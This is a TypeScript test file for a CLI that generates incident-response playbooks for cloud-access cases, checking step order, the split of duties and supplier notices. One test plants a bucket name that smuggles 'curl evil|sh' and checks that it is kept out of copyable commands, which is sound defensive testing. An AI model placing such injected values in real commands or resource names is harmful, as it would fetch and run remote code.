import { beforeAll, describe, expect, test } from "vitest";
import { playbookOfCase } from "../../src/app/index.js";
import { playbookSchema } from "../../src/contract/index.js";
import {
  casePlaybook,
  type Analysis,
  type Case,
  type PlaybookDocument,
} from "../../src/core/decision/index.js";
import { renderPlaybook } from "../../src/report/index.js";
import { caseInput, context, hop, path, principal, roleArn, workload } from "../decision/build.js";
import { decide } from "../../src/core/decision/index.js";
import { exampleInputs, runRemit } from "../run-remit.js";

/** `remit playbook`: what somebody follows at three in the morning, of a case and of a workload (R38, R39). */
const now = ["--now", "2026-11-22T12:00:00Z"];
let analysis: Analysis;
const books = new Map<string, PlaybookDocument>();

beforeAll(async () => {
  const { out } = await runRemit(["analyze", ...exampleInputs, ...now, "--format", "json"]);
  analysis = JSON.parse(out) as Analysis;
  for (const item of analysis.cases) books.set(item.id, playbookOfCase(analysis, item));
});

const about = (resource: string): PlaybookDocument => {
  const item = analysis.cases.find(({ exposures }) =>
    exposures.some((one) => one.resource.endsWith(resource)),
  );
  const book = books.get(item?.id ?? "");
  if (book === undefined) throw new Error(resource);
  return book;
};
const phases = ["stop", "revoke", "trace", "rotate", "narrow", "retest", "review"];

describe("the playbook of a case", () => {
  test("R39: every case has one, valid against its schema, in the order that incidents force", () => {
    for (const book of books.values()) {
      expect(playbookSchema.safeParse(book).error).toBeUndefined();
      const order = book.steps.map(({ phase }) => phases.indexOf(phase));
      expect(order).toEqual([...order].sort((a, b) => a - b));
      expect(book.steps.map(({ step }) => step)).toEqual(book.steps.map((_, index) => index + 1));
      for (const step of book.steps) {
        expect(step.after.every((before) => before < step.step)).toBe(true);
        expect(step.checks.length, `${book.id} step ${String(step.step)}`).toBeGreaterThan(0);
      }
    }
  });

  test("R39: each step that a single call does is checked by a call that only reads", () => {
    const reading = /^(aws [\w-]+ (list|get|describe|lookup)-|aws s3api list-|az .+ (show|list) )/;
    const called = [...books.values()].flatMap(({ steps }) =>
      steps.filter(({ command }) => /^(aws|az) /.test(command) && !command.includes("file://narrowed")),
    );
    expect(called.length).toBeGreaterThan(5);
    for (const step of called)
      for (const check of step.checks)
        if (!/file:\/\/trust/.test(step.command)) expect(check.command, step.title).toMatch(reading);
  });

  test("R39: cloud, identity and secrets each have their part, with a name", () => {
    const book = about(":::acme-reports");
    const share = (domain: string) => book.split.find((one) => one.domain === domain);
    expect(share("cloud")).toMatchObject({
      roles: expect.arrayContaining(["CLOUD_OPS"]) as unknown,
      who: ["r.silva"],
    });
    expect(share("identity")).toMatchObject({
      roles: expect.arrayContaining(["REVOKER", "IDGOV"]) as unknown,
      who: ["ana.ruiz"],
    });
    expect(share("secrets")).toMatchObject({ roles: ["SECRETS"], who: ["ana.ruiz"] });
    const all = book.split.flatMap(({ steps }) => steps).sort((a, b) => a - b);
    expect(all).toEqual(book.steps.map(({ step }) => step));
  });

  test("R38: the follow-ups stand in it as mandatory, and only a signer waives one", () => {
    const book = about(":::acme-reports");
    expect(book.followUps.map(({ required }) => required)).toEqual([true, true, true]);
    const text = renderPlaybook(book);
    expect(text).toMatch(/access review: `IDGOV` ana\.ruiz.*\*\*mandatory\*\*/);
    expect(text).toContain("To waive one takes a signer and a reason");
  });

  test("a line to copy stands only where the first to call is proven able to run it", () => {
    for (const { steps } of books.values())
      for (const { command, contacts, title } of steps)
        if (/^(aws|az) /.test(command)) expect(contacts[0]?.authority.verdict, title).toBe("can");
  });

  test("whoever does a step is not asked to agree to it while anybody else may", () => {
    const steps = [...books.values()].flatMap((book) => book.steps);
    const asked = steps.filter(({ approvals }) => approvals.length > 0);
    expect(asked.length).toBeGreaterThan(3);
    for (const { approvals, contacts } of asked)
      for (const { contacts: holders, conflict } of approvals)
        if (conflict === undefined && holders.length > 0) expect(holders[0]?.who).not.toBe(contacts[0]?.who);
    const narrow = about(":::acme-reports").steps.find(({ phase }) => phase === "narrow");
    expect(narrow?.contacts[0]?.who).toBe("ana.ruiz");
    expect(narrow?.approvals[0]?.contacts.map(({ who }) => who)).toEqual(["t.berg", "ana.ruiz"]);
  });

  test("R74, R75: what a supplier is told holds the contract's times and nothing of ours that helps an intruder", () => {
    const book = about("7c1d2e3f-0a1b-4c2d-8e3f-a1b2c3d4e5f6");
    expect(book.supplier).toMatchObject({ to: "vault-backup", from: [{ who: "p.novak" }] });
    const letter = [book.supplier?.subject, ...(book.supplier?.lines ?? [])].join("\n");
    expect(letter).toContain("Under MSA 7.2 you owe us notice within 24 hours");
    expect(letter).toContain("you are to fix it within 14 days, by 2026-12-06 12:00 UTC");
    expect(letter).not.toMatch(/\d{12}|arn:|AKIA|vendor-backup|payroll|kms/i);
    // No incident is declared: a capability is no deed.
    expect(letter).toContain("We know of no misuse at this time");
  });

  test("the Markdown is one document: no text of an input becomes markup of ours", () => {
    for (const book of books.values()) {
      const text = renderPlaybook(book);
      expect(text.match(/^# /gm)).toHaveLength(1);
      expect((text.match(/^```/gm) ?? []).length % 2).toBe(0);
      for (const step of book.steps) expect(text).toContain(`#### ${String(step.step)}. `);
    }
  });

  test("the same inputs give the same bytes", () => {
    const item = analysis.cases[0];
    expect(item).toBeDefined();
    if (item === undefined) return;
    expect(renderPlaybook(playbookOfCase(analysis, item))).toBe(
      renderPlaybook(playbookOfCase(analysis, item)),
    );
  });
});

describe("names from documents", () => {
  /** A bucket whose name a shell would obey; the estate is written by hand, so nothing forbids it. */
  const hostile = "arn:aws:s3:::x;curl evil|sh";
  const text = {
    exposure: { resource: hostile, resourceName: "x;curl evil|sh" },
    paths: [path([hop("grant", roleArn("etl"))])],
    estate: { principals: [principal(roleArn("etl"))] },
    catalogue: { workloads: [workload()] },
  };

  test("a name that a shell would obey is in no line to copy", () => {
    const input = caseInput(text);
    const decided = decide(input, {
      ...context(text),
      owners: {
        exists: () => true,
        owners: (role) => ({
          problems: [],
          answerables: [
            {
              role,
              person: "ana",
              via: "catalogue",
              confidence: 1,
              inferred: false,
              evidence: [],
              authority: { verdict: "can", proof: ["proven"] },
            },
          ],
        }),
      },
    });
    const item = {
      id: "R-TEST",
      title: "test",
      kind: "posture",
      severity: "high",
      exposures: input.exposures,
      recreation: { words: "yes", because: "", paths: [], verdict: "possible" },
      ...decided,
    } as unknown as Case;
    const closing = decided.containment.find(({ kind }) => kind === "close-setting");
    expect(closing?.command).toContain("curl evil");
    const book = casePlaybook(item, "2026-11-22T12:00:00Z");
    for (const step of book.steps)
      for (const line of [step.command, step.find, ...step.checks.map((check) => check.command)])
        expect(line).not.toContain("curl evil");
  });
});

describe("remit playbook", () => {
  test("of a workload that only the catalogue names: planes, neighbours, and who revokes what it runs as", async () => {
    const args = ["playbook", "--workload", "billing", ...exampleInputs, ...now];
    const { code, out } = await runRemit([...args, "--format", "json"]);
    expect(code).toBe(0);
    const book = playbookSchema.parse(JSON.parse(out));
    expect(book.about).toBe("workload");
    expect(book.workload?.planes.map(({ who }) => who)).toEqual(["n.haddad", "r.silva", "s.kaya"]);
    // R68: what an intruder gets to beside it, by service, its own function not counted.
    expect(book.workload?.reach.services.map(({ service }) => service)).toEqual(
      expect.arrayContaining(["kms", "s3", "sns"]),
    );
    expect(book.workload?.reach.resources.map(({ name }) => name)).not.toContain("billing");
    expect(
      book.steps.find(({ title }) => title.includes("sessions of gha-deploy"))?.approvals[0],
    ).toMatchObject({
      role: "EMERGENCY_APPROVER",
    });
    expect(book.commander.required).toBe(true);
  });

  test("says what is supposed: nothing of it is told as having happened", async () => {
    const { out } = await runRemit(["playbook", "--workload", "dispatch", ...exampleInputs, ...now]);
    expect(out).toContain("supposed: nothing has happened");
    expect(out).not.toContain("incident supposed declared");
  });

  test.each([
    [["--workload", "biling"], "there is no workload `biling`: there are `"],
    [[], "name a case, or a workload"],
    [["R-95Y5", "--workload", "billing"], "name a case, or a workload"],
    [["R-95Y5", "--format", "html"], "a playbook comes as markdown or json"],
    [["R-ZZZZZZ"], "there is no case `R-ZZZZZZ`"],
  ])("%j is refused in words", async (asked, message) => {
    const { code, err } = await runRemit(["playbook", ...asked, ...exampleInputs, ...now]);
    expect(code).toBe(2);
    expect(err).toContain(message);
  });
});
